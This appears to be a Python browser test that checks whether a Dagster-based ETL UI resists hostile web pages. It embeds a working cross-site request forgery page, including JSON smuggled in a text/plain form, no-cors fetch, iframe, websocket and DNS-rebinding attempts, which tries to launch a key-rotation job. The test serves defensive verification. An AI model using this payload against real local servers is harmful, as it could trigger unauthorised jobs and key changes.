"""In Chromium: what pages of strangers can do to the UI, and that the UI itself works.

    make browser

Serves a simulated Dify with an API key that is due, `dify-etl dev` and a bare `dagster dev` on it,
and a page that tries image, form, fetch, iframe and websocket: from another port of this machine,
from another domain, and from a domain that points to the UI itself.
"""

import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from dify_etl_tests.cli.command_line import ServedDify
from dify_etl_tests.cli.small_policies import bots_key
from dify_etl_tests.cli.small_servers import served, small_world
from dify_etl_tests.defs.running_dagster import free_port
from dify_etl_tests.ui.chromium import Tab, chromium, wait_for

LOCATION = "dify_etl.definitions"
LAUNCH = """mutation($p: ExecutionParams!) { launchRun(executionParams: $p) { __typename } }"""
RUNS = "{ runsOrError { ... on Runs { results { runId status jobName } } } }"
ASSETS = "{ assetsOrError { ... on AssetConnection { nodes { key { path } } } } }"
OVER = ("SUCCESS", "FAILURE", "CANCELED")
BACKFILL = """mutation($p: LaunchBackfillParams!) { launchPartitionBackfill(backfillParams: $p) {
    __typename ... on LaunchBackfillSuccess { backfillId } } }"""
BACKFILLED = """query($id: String!) { partitionBackfillOrError(backfillId: $id) {
    ... on PartitionBackfill { status } } }"""

# Tries everything against the address that stands behind the #, then tells what could be read.
ATTACK = """<!doctype html><title>a page of a stranger</title><body><script>
const ui = location.hash.slice(1), variables = %(variables)s, mutation = %(mutation)s;
const asked = new URLSearchParams({query: mutation, variables});
const told = {};
const later = ms => new Promise(done => setTimeout(done, ms));
async function read(name, request) {
  try {
    const got = await request();
    told[name] = got.type === 'opaque' ? 'sent' : await got.text();
  } catch (error) { told[name] = 'blocked'; }
}
function form(kind, name, value) {
  const made = document.createElement('form'), frame = document.createElement('iframe');
  frame.name = 'frame of ' + kind;
  document.body.append(frame);
  Object.assign(made, {method: 'POST', enctype: kind, target: frame.name,
                       action: ui + '/graphql?' + asked});
  const field = Object.assign(document.createElement('textarea'), {name, value});
  made.append(field);
  document.body.append(made);
  made.submit();
}
(async () => {
  new Image().src = ui + '/graphql?' + asked;
  const body = JSON.stringify({query: mutation, variables: JSON.parse(variables)});
  form('text/plain', body.slice(0, -1) + ',"x":"', '"}');
  form('application/x-www-form-urlencoded', 'query', mutation);
  const framed = Object.assign(document.createElement('iframe'), {src: ui + '/overview'});
  document.body.append(framed);
  const text = {'Content-Type': 'text/plain; x=application/json'};
  const way = {method: 'POST', mode: 'no-cors', headers: text, body, credentials: 'include'};
  await read('fetch without cors', () => fetch(ui + '/graphql', way));
  await read('fetch', () => fetch(ui + '/graphql',
    {method: 'POST', headers: {'Content-Type': 'application/json'}, body}));
  await read('reading', () => fetch(ui + '/graphql?query={version}'));
  await read('report', () => fetch(ui + '/report_asset_materialization/planted',
    {method: 'POST', mode: 'no-cors'}));
  told.websocket = await new Promise(done => {
    const socket = new WebSocket(ui.replace('http', 'ws') + '/graphql', 'graphql-ws');
    socket.onopen = () => { done('open'); };
    socket.onerror = () => { done('blocked'); };
  });
  await later(3000);
  document.title = 'done';
  window.told = told;
})();
</script>"""


def attack_page() -> bytes:
    """Rotates keys, if it may."""
    config = {"resources": {"key_operations": {"config": {"dry_run": False}}}}
    selector = {
        "repositoryName": "__repository__",
        "repositoryLocationName": LOCATION,
        "jobName": "rotate_api_keys",
    }
    tags = [{"key": "dagster/schedule_name", "value": "rotate_api_keys_schedule"}]
    told = {"selector": selector, "runConfigData": config, "executionMetadata": {"tags": tags}}
    variables = json.dumps(json.dumps({"p": told}))
    return (ATTACK % {"variables": variables, "mutation": json.dumps(LAUNCH)}).encode()


@contextmanager
def strangers_server() -> Iterator[int]:
    """Serves the page of the attack on a port of loopback."""
    page = attack_page()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()


class Ui:
    """A Dagster on a port, asked as a program does it."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"

    def ask(self, query: str, **variables: Any) -> Any:
        """The data of the answer."""
        asked = {"query": query, "variables": variables}
        answer = httpx.post(f"{self.url}/graphql", json=asked, timeout=120).json()
        assert "errors" not in answer, answer
        return answer["data"]

    def is_up(self) -> bool:
        """Whether it answers."""
        with suppress(httpx.TransportError):
            return bool(self.ask("{ __typename }"))
        return False

    def runs(self) -> list[dict[str, str]]:
        """All runs."""
        found: list[dict[str, str]] = self.ask(RUNS)["runsOrError"]["results"]
        return found

    def are_over(self) -> bool:
        """Whether no run goes on."""
        return all(run["status"] in OVER for run in self.runs())

    def assets(self) -> list[str]:
        """What was ever told of assets."""
        nodes = self.ask(ASSETS)["assetsOrError"]["nodes"]
        return [".".join(node["key"]["path"]) for node in nodes]


@contextmanager
def dagster(folder: Path, variables: dict[str, str], *command: str) -> Iterator[Ui]:
    """Dagster by this command, in a folder of its own, with the policy and settings of the rig."""
    port = free_port()
    log = folder / f"{Path(command[0]).name}.log"
    home = folder / Path(command[0]).name
    home.mkdir()
    inherited = {name: text for name, text in os.environ.items() if "DIFY" not in name}
    own = {"DIFY_ETL_HOME": str(home), "DAGSTER_HOME": str(home)}
    with log.open("w") as output:
        serving = subprocess.Popen(
            [*command, "--port", str(port)],
            cwd=folder,
            env=inherited | variables | own,
            stdout=output,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        ui = Ui(port)
        try:
            wait_for("Dagster", lambda: serving.poll() is not None or ui.is_up())
            assert serving.poll() is None, log.read_text()
            yield ui
        finally:
            os.killpg(serving.pid, signal.SIGINT)
            try:
                serving.wait(90)
            except subprocess.TimeoutExpired:
                os.killpg(serving.pid, signal.SIGKILL)
                serving.wait()


def attacked(tab: Tab, page: str, ui: str) -> tuple[dict[str, str], list[str]]:
    """What a stranger's page could read, and the addresses that its frames show."""
    tab.open(f"{page}#{ui}")
    wait_for("the end of the attack", lambda: tab.run("document.title === 'done'"))
    told: dict[str, str] = tab.run("window.told")
    return told, tab.frames()


def report(what: str, *, holds: bool) -> bool:
    """A line for whoever runs it."""
    print(f"{'ok' if holds else 'FAILED':7} {what}", flush=True)
    return holds


def main() -> int:
    """Exit code 0 when everything holds."""
    with (
        tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as name,
        served(small_world(now=datetime.now(UTC).replace(microsecond=0))) as dify,
        strangers_server() as port,
        chromium(Path(name, "profile"), "*.test") as new_tab,
    ):
        folder = Path(name)
        key = bots_key(dify.world, folder, days=100)
        start = (datetime.now(UTC) - timedelta(days=2)).date().isoformat()
        variables = dify.variables(start)
        pages = [f"http://127.0.0.1:{port}/", f"http://evil.test:{port}/"]
        bin_folder = Path(sys.executable).parent
        rig = Rig(dify, folder, key.token, pages)
        with dagster(folder, variables, str(bin_folder / "dify-etl"), "dev") as ui:
            held = rig.gate_holds(new_tab, ui) + rig.ui_works(new_tab(), ui)
        bare = (str(bin_folder / "dagster"), "dev", "-m", LOCATION)
        with dagster(folder, variables, *bare) as ui:
            held += rig.wall_holds(new_tab, ui)
    return 0 if all(held) else 1


class Rig:
    """The Dify whose key is due, its consumer's file, and the pages of strangers."""

    def __init__(self, dify: ServedDify, folder: Path, token: str, pages: list[str]) -> None:
        self._dify, self._folder, self._token, self._pages = dify, folder, token, pages
        for row in list(dify.world.documents.values()):  # nothing is to be retried
            dify.world.set_indexing_status(row.id, "completed", at=dify.world.now())
        self._keys = set(dify.world.api_keys)

    def has_moved(self) -> bool:
        """Whether a key was made, deleted or handed over."""
        sink = (self._folder / "bot.env").read_text()
        return set(self._dify.world.api_keys) != self._keys or self._token not in sink

    def gate_holds(self, new_tab: Callable[[], Tab], ui: Ui) -> list[bool]:
        """`dify-etl dev` lets no page in."""
        held = []
        for page in self._pages:
            told, frames = attacked(new_tab(), page, ui.url)
            read = {name for name, text in told.items() if text not in ("blocked", "sent")}
            held += [
                report(f"{page}: read nothing ({told})", holds=not read),
                report(f"{page}: websocket is refused", holds=told["websocket"] == "blocked"),
                report(
                    f"{page}: no frame shows the UI ({frames})",
                    holds=bool(frames) and not any(one.startswith(ui.url) for one in frames),
                ),
            ]
        rebound = new_tab()
        rebound.open(ui.url.replace("127.0.0.1", "rebound.test"))
        shown = rebound.text()
        held += [
            report("a domain that points here shows nothing", holds="refused this" in shown),
            report("no run was launched", holds=ui.runs() == []),
            report("no asset was reported", holds="planted" not in ui.assets()),
            report("no key has moved", holds=not self.has_moved()),
        ]
        return held

    def ui_works(self, tab: Tab, ui: Ui) -> list[bool]:
        """A run launched by its button, its log by websocket, a backfill from the page's origin."""
        tab.open(f"{ui.url}/locations/{LOCATION}/jobs/retry_indexing/playground")
        tab.click("Launch Run")
        wait_for("the run", ui.runs)
        wait_for("the end of the run", ui.are_over)
        (run,) = ui.runs()
        tab.open(f"{ui.url}/runs/{run['runId']}")
        told = "Started execution of step"
        shown = wait_for("the log", lambda: told in tab.text() and tab.text())
        held = [
            report(f"the button launched a run: {run['status']}", holds=run["status"] == "SUCCESS"),
            report("its log is shown", holds=told in shown),
            report(
                f"by websocket ({tab.seen['Network.webSocketFrameReceived']} frames)",
                holds=tab.seen["Network.webSocketFrameReceived"] > 0,
            ),
        ]
        days = [(datetime.now(UTC) - timedelta(days=back)).date().isoformat() for back in (1, 0)]
        asked = {
            "query": BACKFILL,
            "variables": {
                "p": {"assetSelection": [{"path": ["raw", "messages"]}], "partitionNames": days}
            },
        }
        told = tab.run(
            "fetch('/graphql', {method: 'POST', headers: {'Content-Type': 'application/json'},"
            f" body: {json.dumps(json.dumps(asked))}}}).then(one => one.json())"
        )["data"]["launchPartitionBackfill"]

        def status() -> str:
            asked_for = ui.ask(BACKFILLED, id=told["backfillId"])["partitionBackfillOrError"]
            return str(asked_for["status"])

        wait_for("the backfill", lambda: status() not in ("REQUESTED", "COMPLETING"))
        held.append(report(f"a backfill: {status()}", holds=status() == "COMPLETED_SUCCESS"))
        return held

    def wall_holds(self, new_tab: Callable[[], Tab], ui: Ui) -> list[bool]:
        """A bare `dagster dev` launches whatever comes, and nothing is applied."""
        for page in self._pages:
            attacked(new_tab(), page, ui.url)
        with suppress(TimeoutError):
            wait_for("a run of the attack", ui.runs, seconds=30)
        wait_for("the end of the runs", ui.are_over)
        runs = [run["status"] for run in ui.runs()]
        return [
            report(f"bare: the attack launches runs ({runs})", holds=bool(runs)),
            report("bare: and all of them fail", holds=set(runs) <= {"FAILURE"}),
            report("bare: no key has moved", holds=not self.has_moved()),
        ]


if __name__ == "__main__":
    sys.exit(main())
